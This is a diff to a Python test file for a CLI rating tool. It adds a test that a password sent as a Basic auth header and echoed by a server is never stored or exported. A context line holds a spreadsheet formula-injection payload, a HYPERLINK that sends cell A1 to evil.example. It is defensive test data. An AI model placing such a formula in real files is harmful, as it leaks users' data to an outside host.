@@ -3,7 +3,9 @@ code as merged, through the real CLI (or the real app in tmux), and holds now.""
 
 from __future__ import annotations
 
+import base64
 import csv
+import sqlite3
 import subprocess
 import sys
 from pathlib import Path
@@ -11,7 +13,8 @@ from pathlib import Path
 import pytest
 
 from tests.reliability.test_files import one_sentence
-from tests.support import digest, run_cli_process, story_study
+from tests.reliability.test_secrets import PASSWORD, echo_server  # noqa: F401 (a fixture)
+from tests.support import SAMPLE, digest, run_cli_process, story_study
 from tui_rater.store.study import Study
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -71,3 +74,24 @@ def test_adjudicator_names_are_checked_as_annotator_names(tmp_path, name, said):
         pytest.fail("the screen opened for a name that --annotator refuses")
     assert said in one_sentence(done) and "--adjudicator" in done.stderr
     assert digest(db) == before
+
+
+def test_the_basic_auth_header_a_server_echoes_is_never_stored(tmp_path, echo_server):  # noqa: F811
+    """A user and password in --base-url go out as `Authorization: Basic base64(user:password)`; a server that
+    echoed that header had it stored in every reply: the password, one base64 decode away."""
+    url, seen = echo_server
+    db = tmp_path / "s.db"
+    assert run_cli_process("import", SAMPLE / "stories.csv", "--task", "story", "--db", db).returncode == 0
+    secret_url = f"http://alice:{PASSWORD}@{url.removeprefix('http://')}"
+    judged = run_cli_process(
+        "judge", "--db", db, "--model", "api:echo", "--base-url", secret_url, "--limit", "1", "--samples", "1"
+    )
+    assert judged.returncode == 0, judged.stderr
+    sent = base64.b64encode(f"alice:{PASSWORD}".encode()).decode()
+    assert seen and seen[0]["authorization"] == f"Basic {sent}"  # what the server got, and echoed
+    raws = [r[0] for r in sqlite3.connect(db).execute("SELECT raw FROM ratings WHERE raw IS NOT NULL")]
+    assert raws and all("with Basic [key]" in raw for raw in raws), raws
+    out = tmp_path / "judgements.jsonl"
+    assert run_cli_process("export", "--db", db, "--what", "judgements", "--out", out).returncode == 0
+    for path in (db, out):
+        assert sent.rstrip("=").encode() not in path.read_bytes(), path.name
